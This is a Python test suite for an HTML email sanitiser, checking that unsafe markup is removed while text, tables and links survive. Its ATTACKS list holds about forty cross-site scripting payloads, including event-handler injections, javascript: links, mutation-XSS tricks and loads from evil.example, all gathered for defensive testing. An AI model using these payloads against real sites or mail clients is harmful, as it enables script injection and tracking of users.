"""HTML letters as pages that can do nothing, whatever was written into them."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.mail.parts.html import Budget
from app.mail.sanitised import covered, is_harmless, sanitise

ELEMENTS = {
    "abbr", "address", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del",
    "dfn", "div", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
    "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "strong",
    "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
    "var",
}  # fmt: skip
ATTRIBUTES = {"border", "colspan", "dir", "rowspan"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script >",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    '<img alt="<script>alert(1)</script>" src=x>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?><b>x</b>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href='java\tscript:alert(1)' target=_top ping=//evil.example>here</a>",
    '<a href="https://evil.example/\'><script>alert(1)</script>">here</a>',
    "<form action=//evil.example><input name=q><button formaction=//x>go</button>",
    "<iframe src=//evil.example></iframe><frameset><frame src=//x></frameset>",
    "<object data=//evil.example></object><embed src=//x><applet code=x></applet>",
    "<base href=//evil.example><link rel=stylesheet href=//x><meta http-equiv=refresh>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<style>@import '//evil.example';p{background:url(//x)}</style><p>text",
    "<p style='background:url(//evil.example)' onmouseover=alert(1) id=x class=y>text",
    "<td background=//evil.example colspan='2\" onclick=alert(1)'>",
    "<table border='1\" onclick=\"alert(1)'><td rowspan=99999999>x",
    "<p dir='rtl\" onclick=\"alert(1)'>x",
    "<body onload=alert(1)><video src=x onerror=alert(1)><audio src=//evil.example>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<p title='&lt;script&gt;'>&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;&amp;lt;img src=x&amp;gt;",
    "<b \x00onclick=alert(1)>x\x00\x0b</b\x00>",
    "\u2028<b\u2028onclick=alert(1)>x</b>",
    "<isindex action=javascript:alert(1)><marquee onstart=alert(1)>x</marquee>",
]

MARKUP = re.compile("<[^>]*>")
PIECES = st.sampled_from(
    ["<", ">", "</", "/>", "=", '"', "'", "&lt;", "&#x3c;", "<!--", "-->", "<p>",
     "</p>", "<table>", "<td colspan=2>", "<a href=", "<img alt=", "<script>",
     "</script>", "<style>", "<svg>", "javascript:", "on", "\x00", "字"]
)  # fmt: skip
SOUP = st.lists(PIECES | st.text(max_size=8), max_size=40).map("".join)


class Elements(HTMLParser):
    """What another parser finds in a page: elements, attributes, how deep it ends."""

    def __init__(self, page: str) -> None:
        """Read ``page``."""
        super().__init__()
        self.found: set[str] = set()
        self.attributes: set[str] = set()
        self.others: list[str] = []
        self.opened: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.found.add(tag)
        self.attributes |= {name for name, _ in attrs}
        if tag not in {"br", "hr"}:
            self.opened.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Note that an element ends, which has to be the one opened last."""
        assert self.opened.pop() == tag

    def handle_comment(self, data: str) -> None:
        """Note what is no element."""
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        """Note what is no element."""
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        """Note what is no element."""
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        """Note what is no element."""
        self.others.append(data)


def page(html: str) -> str:
    return sanitise(html, budget=Budget(tags=10_000, characters=100_000))


def harm(html: str) -> list[str]:
    """Return all that a page made of ``html`` holds and should not."""
    found = page(html)
    elements = Elements(found)
    return [
        *(elements.found - ELEMENTS),
        *(elements.attributes - ATTRIBUTES),
        *elements.others,
        *elements.opened,
        *([] if is_harmless(found) else ["not harmless by its own reckoning"]),
    ]


@pytest.mark.parametrize("html", ATTACKS)
def test_no_attack_gets_through(html: str) -> None:
    assert harm(html) == []


@given(SOUP)
def test_nothing_but_what_is_allowed_ever_comes_out(html: str) -> None:
    assert harm(html) == []


@given(st.text())
def test_plain_text_comes_out_as_it_is(text: str) -> None:
    said = "".join(sign for sign in text if sign.isprintable() and sign not in "<&")

    assert page(said) == said.replace(">", "&gt;")


@pytest.mark.parametrize(
    "content",
    ["<script>x</script>", "<p onclick='x'>y</p>", '<p onclick="x">', "<a>x</a>", "<p",
     '<td colspan="2" style="x">', '<td colspan="123">', "<P>x</P>", "a & b", "&copy;",
     "<!-- -->", "</br>", '<p dir="rtl" border=1>'],
)  # fmt: skip
def test_what_the_sanitiser_would_not_write_is_found_out(content: str) -> None:
    assert not is_harmless(content)


def test_text_and_its_order_are_kept() -> None:
    found = page("<h1>路灯</h1><p>坏了<br>三个月<ul><li>巷口<li>门口</ul>")

    assert found == (
        "<h1>路灯</h1><p>坏了<br>三个月</p><ul><li>巷口</li><li>门口</li></ul>"
    )


def test_a_table_stays_one() -> None:
    found = page(
        "<table border=2 width=9><tr><td colspan=2 bgcolor=red>a<td>b<tr><th>c"
    )

    assert found == (
        '<table border="1"><tr><td colspan="2">a</td><td>b</td></tr>'
        "<tr><th>c</th></tr></table>"
    )


def test_a_link_is_words_with_their_address_behind_them() -> None:
    assert page('<a href="https://evil.example/?a=1&amp;b=2">www.gov.example</a>!') == (
        "www.gov.example &lt;https://evil.example/?a=1&amp;b=2&gt;!"
    )
    assert page("<a href=javascript:x()>here</a>") == "here &lt;javascript:x()&gt;"


def test_an_address_that_is_its_own_words_stands_there_once() -> None:
    assert page("<a href='https://a.example/'>https://a.example</a>") == (
        "https://a.example"
    )
    assert page("<a href='#top'>up</a>") == "up"


def test_a_picture_is_what_it_is_called() -> None:
    assert page("<img alt='a <b>lamp</b>' src=//x><img src=//track>") == (
        "[a &lt;b&gt;lamp&lt;/b&gt;]"
    )


def test_what_the_sender_hid_is_shown() -> None:
    assert page("<p style='display:none'>hidden") == "<p>hidden</p>"


def test_it_stops_where_its_budget_ends() -> None:
    budget = Budget(tags=3, characters=5)

    assert sanitise("<p>abc<p>defgh<p>ijk", budget=budget) == "<p>abc</p><p>de</p>"


def test_depth_is_limited_and_all_is_closed() -> None:
    found = page("<div>" * 5_000 + "x")

    assert found.count("<div>") == found.count("</div>") == 100


@pytest.mark.parametrize(
    "piece",
    ["<", "<a href=x>", "<div>", "</p>", "<td colspan=2>", "<!--", "&", "<p a='"],
)
def test_it_is_linear_over_what_would_slow_others_down(piece: str) -> None:
    started = time.process_time()

    found = sanitise(piece * 50_000, budget=Budget(tags=50_000, characters=200_000))

    assert is_harmless(found)
    assert time.process_time() - started < 3


@given(SOUP)
def test_what_is_done_to_the_words_leaves_the_markup(soup: str) -> None:
    written = page(soup)
    dark = covered(written, lambda words: "*" * len(words))

    assert is_harmless(dark)
    assert MARKUP.findall(dark) == MARKUP.findall(written)
    assert set(MARKUP.sub("", dark)) <= {"*"}
    assert covered(written, lambda words: words) == written


def test_words_stay_as_long_as_they_were() -> None:
    with pytest.raises(ValueError, match="as long"):
        covered("<p>one</p>", lambda _: "")
